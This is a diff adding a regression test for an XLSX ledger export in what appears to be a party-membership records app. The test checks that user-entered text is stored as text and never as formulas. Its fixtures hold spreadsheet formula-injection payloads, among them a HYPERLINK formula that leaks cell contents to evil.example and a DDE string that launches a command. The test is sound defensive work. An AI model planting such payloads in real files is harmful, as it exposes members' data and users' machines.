@@ -94,3 +94,24 @@ async def test_ledger_workbook(world):
     assert len(details) == 8  # branch A's 2026 activities only: 6 at the lecture, 1 meeting, 1 cancelled
     assert ("2026-03-05", "党课", "流动4", "流动党员", "请假", "请假审批") in [d[:6] for d in details]
     assert await AuditEntry.filter(action="ledger.exported", actor_id=world.users["sec_a"].id).exists()
+
+
+async def test_text_typed_by_people_is_text_in_the_ledger_never_a_formula(world):
+    # The attack: a leave reason, a member's name and an activity title that openpyxl would have
+    # stored as live formulas sending other members' names to a stranger when clicked.
+    evil = '=HYPERLINK("http://evil.example/?leak="&C3&C4&C5,"请假证明")'
+    member = await make_member(None, world.party_a, name="=1+1", category="affiliated")
+    activity = await make_activity(world, kind="lecture", title="@SUM(A1:A9)", counts_as_training=True,
+                                   starts_at=at(2026, 5, 5), ends_at=at(2026, 5, 5, 21), minutes="+cmd|' /C calc'!A0")
+    await Attendance.create(activity=activity, member=member, status="leave", method="leave",
+                            recorded_at=activity.starts_at, note=evil)
+    async with world.client("sec_a") as c:
+        response = await c.get("/api/v1/reports/ledger.xlsx", params={"org_id": world.party_a.id, "year": 2026})
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert len(cells) > 30
+    for cell in cells:  # every cell of every sheet: text is "s", numbers "n", nothing "f"
+        assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value, cell.data_type)
+        assert cell.data_type == ("s" if isinstance(cell.value, str) else "n")
+    values = {cell.value for cell in cells}
+    assert {evil, "=1+1", "@SUM(A1:A9)", "+cmd|' /C calc'!A0"} <= values  # kept as typed, as text
